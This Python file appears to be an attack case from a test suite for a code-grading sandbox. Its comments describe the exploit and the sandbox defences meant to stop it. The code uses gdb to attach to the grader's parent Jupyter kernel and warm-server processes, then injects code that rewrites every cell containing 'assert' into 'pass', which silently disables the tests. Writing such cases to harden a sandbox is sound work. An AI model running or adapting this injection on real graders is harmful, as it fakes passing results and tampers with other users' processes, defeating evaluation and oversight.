# attack: run code inside the grader's own processes with gdb, as Linux lets any process do to another of its user:
#   the grader kernel that runs this submission's tests and the warm server that forks every later student's kernel
#   (both this process's ancestors) turn test cells into `pass`
# defended-by: sandbox
#   (with bubblewrap they are in another pid namespace, out of sight; as the separate user they are another user's;
#   unprotected, the subject runs in a Landlock domain, and a process there may trace only processes of its own domain.
#   The payload acts only in processes that carry this grading's DTLABS_TEST_TOKEN, so that no other test sharing the
#   warm server can meet it; without a token, as in a real class, it acts in every kernel)
import os
import shutil
import subprocess

import psutil

_token = os.environ.get("DTLABS_TEST_TOKEN")
_payload = (
    "import os, IPython.core.interactiveshell as _s\n"
    "_t = _s.InteractiveShell.transform_cell\n"
    f"_s.InteractiveShell.transform_cell = lambda self, cell: 'pass\\n' if 'assert' in cell and "
    f"os.environ.get('DTLABS_TEST_TOKEN') == {_token!r} else _t(self, cell)\n"
)
_gdb = shutil.which("gdb")
for _proc in psutil.Process().parents():
    try:
        _cmd = " ".join(_proc.cmdline())
    except psutil.Error:
        continue
    if "ipykernel" not in _cmd and "warm.forked import serve" not in _cmd:
        continue
    if _gdb is None:
        print("no gdb to attach to", _proc.pid)
        continue
    _code = _payload.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    _out = subprocess.run([_gdb, "-p", str(_proc.pid), "-batch", "-ex", "call (int)PyGILState_Ensure()",
                           "-ex", f'call (int)PyRun_SimpleString("{_code}")', "-ex", "call (void)PyGILState_Release($1)"],
                          capture_output=True, text=True, timeout=60)
    _said = (_out.stdout + _out.stderr).strip().splitlines()
    print("gdb on", _proc.pid, _proc.name(), "->", [x for x in _said if "ptrace" in x or x.startswith("$")] or _said[-1:])
